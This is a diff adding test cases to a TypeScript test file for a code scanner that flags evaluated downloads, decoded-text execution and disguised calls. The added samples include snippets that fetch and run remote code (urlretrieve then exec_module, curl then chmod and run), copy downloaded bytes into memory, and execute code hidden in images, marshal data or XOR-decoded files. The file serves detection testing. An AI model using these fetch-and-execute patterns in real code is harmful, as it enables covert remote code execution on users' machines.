@@ -4,6 +4,31 @@ import { found } from "../test-support/package-of";
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 
 test.each([
+  [
+    "a downloaded module",
+    'import importlib.util, urllib.request\nurllib.request.urlretrieve("https://h.pages.dev/h.py", "/tmp/h.py")\nspec = importlib.util.spec_from_file_location("h", "/tmp/h.py")\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
+    ["block evaluated_download:5"],
+  ],
+  [
+    "a program that curl has brought",
+    'import subprocess\nsubprocess.run(["curl", "-so", "/tmp/h", "https://h.tools.dev/h"])\nsubprocess.run(["chmod", "+x", "/tmp/h"])\nsubprocess.run(["/tmp/h"])',
+    ["block evaluated_download:3", "block evaluated_download:4"],
+  ],
+  [
+    "bytes that are put into memory",
+    'import ctypes, requests\nb = requests.get("https://h.tools.dev/b").content\nctypes.windll.kernel32.RtlMoveMemory(1, b, len(b))',
+    ["block evaluated_download:3"],
+  ],
+  [
+    "code in a picture",
+    'from PIL import Image\nbits = [p[0] & 1 for p in Image.open("logo.png").getdata()]\nexec(bytes(int(b) for b in bits))',
+    ["block evaluated_decoded_text:3"],
+  ],
+  [
+    "code that was compiled before",
+    'import marshal, types\ntypes.FunctionType(marshal.loads(open("a.dat", "rb").read()), globals())()',
+    ["block evaluated_decoded_text:2"],
+  ],
   ["a name put together", 'import os\ngetattr(os, "sy" + "stem")("ls")', ["block disguised_call:2"]],
   ["a module put together", 'm = __import__("sub" + "process")\nm.run(["ls"])', ["block disguised_call:1"]],
   ["a name turned around", 'import builtins\ngetattr(builtins, "lave"[::-1])("1")', ["block disguised_call:2"]],
@@ -65,6 +90,11 @@ test.each([
     `eval(Buffer.from("${base64("console.log(1)")}", "base64").toString());`,
     ["block evaluated_decoded_text:1"],
   ],
+  [
+    "code in letters that are reckoned",
+    'const raw = require("fs").readFileSync("a.bin");\nlet s = "";\nfor (let i = 0; i < raw.length; i++) s += String.fromCharCode(raw[i] ^ 42);\nnew Function(s)();',
+    ["block evaluated_decoded_text:1"],
+  ],
 ])("finds in JavaScript %s", async (_, code, expected) => {
   expect(await found("index.mjs", code)).toStrictEqual(expected);
 });
@@ -87,6 +117,11 @@ test.each([
     'import requests, subprocess\nr = requests.get("https://api.a.dev/repos").json()\nsubprocess.run(["git", "clone", r["url"]])',
   ],
   ["a.py", 'import pickle, base64\npickle.loads(base64.b64decode("gASVBgAAAAAAAACMAmhplC4="))'],
+  [
+    "a.py",
+    'import importlib.util\nspec = importlib.util.spec_from_file_location("p", "plugins/p.py")\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
+  ],
+  ["a.py", 'print(bytes(x ^ 7 for x in open("a.bin", "rb").read()))'],
   ["a.py", "import ast\nast.literal_eval(open('a').read())\neval('1 + 1')"],
   ["a.js", 'const m = /x/.exec(await (await fetch("https://a.dev")).text());'],
   ["a.js", 'setTimeout(() => run("a" + "b"), 10);\nconst key = "to" + "ken";\nconst v = options[key];'],
